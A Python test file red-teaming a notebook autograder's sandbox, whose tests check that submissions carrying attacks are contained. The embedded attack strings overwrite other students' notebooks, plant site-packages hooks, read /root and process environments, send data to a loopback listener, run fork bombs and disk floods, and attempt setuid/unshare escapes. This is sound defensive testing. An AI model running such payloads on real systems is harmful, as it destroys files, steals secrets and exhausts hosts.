"""The red team: hostile submissions graded in one class with honest students, in the real sandbox.

Each attacker hands in the correct solutions with an attack in front of its first solution cell.
Honest students come before and after them in grading order. The test asserts that the honest
scores equal those of the honest students graded alone, that the course tree and the virtual
environment are unchanged, that nothing the attackers started is left, that a loopback listener
received nothing, that no attacker could read source/, another student's notebook or the
instructor's environment, and that feedback hands back no hidden test even to a kernel hook
that printed every cell it ran.

Skips where no sandbox can be made (with the reason); under CI=true it fails instead.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from red_team import (
    ASSIGNMENT,
    ROOT,
    SECRET,
    SLEEPER,
    grade,
    graded_notebook,
    leftovers,
    sandbox_mechanism_or_skip,
    scores,
    stored_outputs,
    write_submission,
)
from sample_class.build import make_course

from autograder.course.context import CourseContext
from autograder.course.state import status_file as load_status
from autograder.sandbox import cgroups
from autograder.sandbox import policy as sandbox

pytestmark = pytest.mark.slow

HONEST_MARKER = "honest-work-of-a01-5d1e"  # a comment inside an honest student's notebook
SOURCE_MARKER = "instructor-notes-2b8e41"  # in a file under source/ that no kernel may read
HIDDEN_LINE = "importlib.reload(helpers.grading).check_dotscores(dot_scores)"  # a hidden test's line
HANGUL = re.compile(r"[\uac00-\ud7a3]")
HONEST = {"a01_honest": "correct", "a02_partly": "partly", "z01_honest": "correct"}

ATTACKS = {
    "m01_writer": """
import glob, os, site
targets = glob.glob("{course}/submitted/*/{assignment}/*.ipynb") + ["{course}/source/{assignment}/{assignment}.ipynb"]
for path in targets:
    try:
        open(path, "w").write("overwritten")
        print("WROTE", path)
    except OSError as error:
        print("refused", path, type(error).__name__)
for path in ["{repo}/helpers/grading/core.py", "{repo}/notebooks/01_handmade_qkv.ipynb", "{repo}/README.md"]:
    try:
        open(path, "a").write("# owned")
        print("WROTE", path)
    except OSError as error:
        print("refused", path, type(error).__name__)
for folder in site.getsitepackages():
    for name, text in [("sitecustomize.py", "print('owned')"), ("zz_owned.pth", "import os")]:
        try:
            open(os.path.join(folder, name), "w").write(text)
            print("WROTE", folder, name)
        except OSError as error:
            print("refused", folder, name, type(error).__name__)
try:
    os.symlink("{course}/source", "escape")
    print(os.listdir("escape"))
except OSError as error:
    print("symlink escape refused", type(error).__name__)
""",
    "m02_reader": """
import glob, os
for pattern in ["{course}/source/*/*", "{course}/submitted/*/*/*.ipynb", "{course}/gradebook.db",
                "/root/*", "/root/.*", "{repo}/source/*/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            print("READ", path, open(path, errors="replace").read()[:100000])
        except OSError as error:
            print("refused", path, type(error).__name__)
print("ENV", dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("PROC", pid, open(f"/proc/{{pid}}/environ", errors="replace").read())
        except OSError as error:
            print("refused /proc", pid, type(error).__name__)
""",
    "m03_network": """
import socket
for host in ["127.0.0.1", "localhost"]:
    try:
        with socket.create_connection((host, {port}), timeout=2) as connection:
            connection.sendall(b"stolen")
            print("SENT to", host)
    except OSError as error:
        print("no network", host, type(error).__name__)
""",
    "m04_processes": """
import os, subprocess, time
children = []
try:
    for _ in range(500):
        children.append(subprocess.Popen(["{sleeper}", "300"], executable="sleep"))
except OSError as error:
    print("process limit after", len(children), type(error).__name__)
for child in children:
    child.kill()
    child.wait()
for _ in range(3):
    subprocess.Popen(["{sleeper}", "300"], executable="sleep")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)
""",
    "m05_disk": """
import os
for path in ["/tmp/big", "big"]:
    try:
        with open(path, "wb") as handle:
            for _ in range(2048):
                handle.write(b"x" * 2**20)
        print("WROTE 2 GiB", path)
    except OSError as error:
        print("disk limit", path, type(error).__name__)
    finally:
        if os.path.exists(path):
            os.remove(path)
""",
    "m06_ctypes": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("setuid(0) ->", libc.setuid(0), "uid", os.getuid())
print("unshare(CLONE_NEWUSER) ->", libc.unshare(0x10000000))
print("mount ->", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
""",
    "m08_fork_bomb": """
import subprocess
held = []
while True:
    try:
        held.append(subprocess.Popen(["{sleeper}", "300"], executable="sleep"))
    except OSError:
        break
""",
    "m07_leak": """
get_ipython().events.register("post_run_cell", lambda result: print(result.info.raw_cell))
""",
}


def _class(course: Path, attackers: bool, port: int) -> None:
    for student, kind in HONEST.items():
        marker = f"# {HONEST_MARKER}" if student == "a01_honest" else ""
        write_submission(course, student, graded_notebook(course, kind, marker))
    if not attackers:
        return
    for student, attack in ATTACKS.items():
        code = attack.format(course=course, repo=ROOT, assignment=ASSIGNMENT, port=port, sleeper=SLEEPER)
        write_submission(course, student, graded_notebook(course, "correct", code))


def _tree_digest(*folders: Path) -> dict[str, str]:
    digest = {}
    for folder in folders:
        for path in sorted(p for p in folder.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
            digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def _site_packages_listing() -> list[str]:
    import site

    return sorted(name for folder in site.getsitepackages() for name in os.listdir(folder))


class _Listener:
    """A loopback TCP server that records every byte it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received, self.connections = b"", 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            self.connections += 1
            with connection:
                connection.settimeout(2)
                try:
                    self.received += connection.recv(4096)
                except OSError:
                    pass

    def close(self):
        self._stop.set()
        self._thread.join(5)
        self.server.close()


# Both ways of starting a sandboxed kernel face the same attacks: forked from the kernel template (the
# default as root) and started by bubblewrap (elsewhere, or with fork_from_template=False).
@pytest.fixture(scope="module", params=["template", "bwrap"])
def red_team(tmp_path_factory, request):
    sandbox_mechanism_or_skip(request.param)
    listener = _Listener()
    watched = [ROOT / "helpers", ROOT / "notebooks", ROOT / "source", ROOT / "autograder"]
    before, venv_before = _tree_digest(*watched), _site_packages_listing()
    honest_course = make_course(tmp_path_factory.mktemp("honest"), [ASSIGNMENT])
    _class(honest_course, attackers=False, port=listener.port)
    honest_run = grade(honest_course, request.param)
    course = make_course(tmp_path_factory.mktemp("attacked"), [ASSIGNMENT])
    (course / "source" / ASSIGNMENT / "notes.txt").write_text(SOURCE_MARKER, encoding="utf-8")
    _class(course, attackers=True, port=listener.port)
    submitted_before = _tree_digest(course / "submitted")
    attacked_run = grade(course, request.param)
    feedback = subprocess.run([sys.executable, "-m", "autograder", "feedback", ASSIGNMENT, "--root", str(course)],
                              capture_output=True, text=True, timeout=600, cwd=ROOT)
    listener.close()
    yield {"honest": honest_course, "course": course, "honest_run": honest_run, "run": attacked_run,
           "feedback": feedback, "listener": listener, "before": before, "after": _tree_digest(*watched),
           "venv_before": venv_before, "venv_after": _site_packages_listing(), "leftovers": leftovers(),
           "submitted_before": submitted_before, "submitted_after": _tree_digest(course / "submitted")}


def test_honest_students_score_as_they_do_in_a_class_without_attackers(red_team):
    alone, attacked = scores(red_team["honest"]), scores(red_team["course"])
    assert alone and {student: attacked.get(student) for student in alone} == alone, red_team["run"].stdout
    assert alone["a01_honest"] == alone["z01_honest"] == 10.0


def test_every_attacker_is_graded_or_fails_alone_with_a_korean_reason(red_team):
    status = load_status(CourseContext(red_team["course"]), ASSIGNMENT)
    for student in ATTACKS:
        entry = status[student]
        assert entry["outcome"] == "graded" or HANGUL.search(entry["reason"]), (student, entry)


def test_runaways_are_stopped_by_the_limits_and_told_why(red_team):
    """In a control group, running into the process limit fails the submission with the limit named; without one
    (bubblewrap as a user), the fork fails inside the student's cell and grading goes on."""
    status = load_status(CourseContext(red_team["course"]), ASSIGNMENT)
    for student in ("m04_processes", "m08_fork_bomb"):
        if cgroups.find_hierarchy() is not None:
            assert status[student]["outcome"] == "failed" and "프로세스 수 한도" in status[student]["reason"], status
        elif student == "m04_processes":
            assert status[student]["outcome"] == "graded", status[student]
            assert "process limit after" in stored_outputs(red_team["course"], student)
    disk = stored_outputs(red_team["course"], "m05_disk")
    assert "disk limit /tmp/big" in disk and "WROTE 2 GiB" not in disk
    assert "uid 61" in stored_outputs(red_team["course"], "m06_ctypes")


def test_the_course_the_package_and_the_virtual_environment_are_unchanged(red_team):
    assert red_team["after"] == red_team["before"]
    assert red_team["venv_after"] == red_team["venv_before"]


def test_submissions_are_evidence_nobody_rewrites_them(red_team):
    assert red_team["submitted_after"] == red_team["submitted_before"]


def test_nothing_an_attacker_started_outlives_grading(red_team):
    assert red_team["leftovers"] == []


def test_the_leftover_scan_finds_an_attackers_sleeper_and_not_a_sleep_of_anyone_else():
    attackers, anyone_elses = (subprocess.Popen([name, "300"], executable="sleep") for name in (SLEEPER, "sleep"))
    try:
        found = leftovers()
    finally:
        for sleeper in (attackers, anyone_elses):
            sleeper.kill()
            sleeper.wait()
    assert [line for line in found if line.startswith(f"{attackers.pid} ")] != []
    assert [line for line in found if line.startswith(f"{anyone_elses.pid} ")] == []


def test_no_byte_reaches_a_loopback_listener(red_team):
    assert red_team["listener"].connections == 0 and red_team["listener"].received == b""


def test_no_attacker_reads_source_other_students_or_the_instructors_environment(red_team):
    for student in ATTACKS:
        if not (red_team["course"] / "autograded" / student).is_dir():
            continue  # failed alone (the fork bomb): nothing it printed is kept
        outputs = stored_outputs(red_team["course"], student)
        for marker in (SECRET, HONEST_MARKER, SOURCE_MARKER):
            assert marker not in outputs, (student, marker)
    assert "ENV" in stored_outputs(red_team["course"], "m02_reader")  # the reader did run


def test_feedback_hands_back_no_hidden_test_even_when_a_hook_printed_it(red_team):
    """The hook prints every cell the kernel runs: the hidden test is not among them (the grading checker runs
    it outside the kernel), so neither the autograded notebook nor the feedback can hold it."""
    assert red_team["feedback"].returncode == 0, red_team["feedback"].stderr
    printed = stored_outputs(red_team["course"], "m07_leak")
    assert "check_example(" in printed  # the hook did print the test cells' visible part
    assert HIDDEN_LINE not in printed
    html = (red_team["course"] / "feedback" / "m07_leak" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert HIDDEN_LINE not in html


# ---------------------------------------------------------------- one worker, one submission after another
PLANT = """
import os, torch, helpers.data
torch.Tensor.planted = lambda self: "planted"
torch.Tensor.__repr__ = lambda self: "planted tensor"
os.environ["PLANTED"] = "1"
helpers.data.PLANTED = True
for path in ("/tmp/planted", "planted_here"):
    open(path, "w").write("planted")
"""
PROBE = """
import os, sys, torch, helpers.data
print("TRACES", [hasattr(torch.Tensor, "planted"), repr(torch.zeros(1)) == "planted tensor", "PLANTED" in os.environ,
                 hasattr(helpers.data, "PLANTED"), os.path.exists("/tmp/planted"), os.path.exists("planted_here")])
print("KERNEL", open("/proc/self/cmdline").read().replace(chr(0), " "))
"""


@pytest.mark.parametrize("mechanism", ["template", "bwrap"])
def test_what_one_submission_changes_is_absent_in_the_next_on_the_same_worker(tmp_path, mechanism):
    sandbox_mechanism_or_skip(mechanism)
    course = make_course(tmp_path, [ASSIGNMENT])
    for student, code in (("b01_planter", PLANT + PROBE), ("b02_next", PROBE), ("b03_after", PROBE)):
        write_submission(course, student, graded_notebook(course, "correct", code))
    run = grade(course, mechanism, jobs=1)  # one worker grades all three, in this order
    assert run.returncode == 0, run.stdout + run.stderr
    planted = "TRACES [True, True, True, True, True, True]"
    assert planted in stored_outputs(course, "b01_planter")  # the changes were made
    for student in ("b02_next", "b03_after"):
        outputs = stored_outputs(course, student)
        assert "TRACES [False, False, False, False, False, False]" in outputs, outputs
        assert ("autograder.sandbox.template" in outputs) == (mechanism == "template")  # the kernel was forked
    assert scores(course) == {"b01_planter": 10.0, "b02_next": 10.0, "b03_after": 10.0}


def test_tmpfs_mounts_come_before_the_course_so_a_course_under_tmp_stays_visible():
    arguments = sandbox.bwrap_arguments(sandbox.UID_BASE, Path("/tmp/cg-test"), sandbox.Limits())
    first_tmpfs, first_bind = arguments.index("--tmpfs"), arguments.index("--ro-bind")
    assert first_tmpfs < first_bind
    assert arguments.index("--bind") > first_tmpfs  # the socket folder too lives under /tmp


def test_two_live_workers_never_share_a_sandbox_uid(tmp_path):
    first, first_lock = sandbox.claim_slot(tmp_path)
    second, second_lock = sandbox.claim_slot(tmp_path)
    assert first != second
    first_lock.close()
    again, again_lock = sandbox.claim_slot(tmp_path)
    assert again == first  # a closed worker's slot is free again
    second_lock.close()
    again_lock.close()


FLOOD = """
import sys
print("stream", type(sys.stdout).__name__)
for _line in range(300_000):
    print(_line)
print("last words", end="")
for _line in range(300_000):
    print(_line, file=sys.stderr)
"""


def test_a_flooding_cell_stores_the_same_output_whether_its_kernel_drops_the_excess_or_not(tmp_path):
    """A forked kernel sends no more of a cell's stream than nbgrader's LimitOutput keeps (kernel_output);
    what is stored is what a bubblewrap kernel, which sends everything, leaves after LimitOutput."""
    sandbox_mechanism_or_skip("template")
    stored = {}
    for mechanism in ("template", "bwrap"):
        course = make_course(tmp_path / mechanism, [ASSIGNMENT])
        write_submission(course, "f01_flood", graded_notebook(course, "correct", FLOOD))
        run = grade(course, mechanism, jobs=1)
        assert run.returncode == 0, run.stdout + run.stderr
        assert scores(course) == {"f01_flood": 10.0}
        stored[mechanism] = json.loads(stored_outputs(course, "f01_flood"))
    flood_cell = next(i for i, outputs in enumerate(stored["bwrap"]) if "stream OutStream" in _read(outputs))
    for mechanism, stream in (("template", "CappedOutStream"), ("bwrap", "OutStream")):
        outputs = stored[mechanism][flood_cell]
        assert {output["name"] for output in outputs} == {"stdout"}, outputs  # stderr is never stored
        kept, notice = _read(outputs).rsplit("\n", 1)
        everything = f"stream {stream}\n" + "".join(f"{line}\n" for line in range(300_000)) + "last words"
        assert notice == "... Output truncated ..." and everything.startswith(kept + "\n")
        # LimitOutput's cut: max_lines (200) less one line for each message the kept lines came in
        assert kept.count("\n") + 1 == 200 - len(outputs), (mechanism, len(outputs))
    others = {mechanism: [_read(outputs) for index, outputs in enumerate(cells) if index != flood_cell]
              for mechanism, cells in stored.items()}
    assert others["template"] == others["bwrap"]


def _read(outputs: list[dict]) -> str:
    """A cell's outputs as the student reads them, however ipykernel split its stream into messages."""
    return "".join("".join(output["text"]) if output["output_type"] == "stream"
                   else json.dumps(output.get("data", output)) for output in outputs)
